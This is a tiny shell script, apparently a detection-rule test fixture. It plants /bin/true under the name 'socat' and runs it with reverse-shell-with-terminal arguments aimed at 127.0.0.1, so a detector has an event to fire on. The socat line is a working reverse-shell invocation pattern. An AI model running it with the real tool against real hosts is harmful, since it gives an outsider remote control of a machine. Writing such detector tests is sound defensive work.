#!/bin/sh
# rule: 8ff4042c-e058-4c11-b384-ed66860884ed
# A stand-in called socat gets the arguments of a reverse shell with a terminal.
set -eu
scratch=$1
cp /bin/true "$scratch/socat"
"$scratch/socat" tcp-connect:127.0.0.1:9 exec:/bin/sh,pty,stderr
